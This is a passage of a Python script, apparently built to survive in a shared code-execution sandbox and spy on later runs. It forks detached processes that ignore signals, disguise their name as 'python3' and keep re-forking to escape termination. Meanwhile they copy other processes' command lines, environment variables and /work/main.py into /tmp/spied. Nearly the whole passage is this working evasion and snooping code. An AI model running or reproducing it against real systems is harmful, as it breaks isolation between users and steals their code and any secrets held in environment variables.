# Tries everything to be there still when the next one comes.
for style in range(6):
    if os.fork() == 0:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        LIBC.prctl(1, 0, 0, 0, 0)
        LIBC.prctl(15, b"python3", 0, 0, 0)
        LIBC.prctl(36, 1, 0, 0, 0)
        until = time.monotonic() + 30
        seen = set()
        while time.monotonic() < until:
            for pid in processes():
                if pid not in seen and pid != os.getpid():
                    seen.add(pid)
                    for path in (f"/proc/{pid}/cmdline", f"/proc/{pid}/environ", "/work/main.py"):
                        try:
                            with open("/tmp/spied", "ab") as file:
                                file.write(read(path))
                        except OSError:
                            pass
            try:
                os.fork() and os._exit(0)
            except OSError:
                pass
            time.sleep(0.01)
time.sleep(0.3)
end()
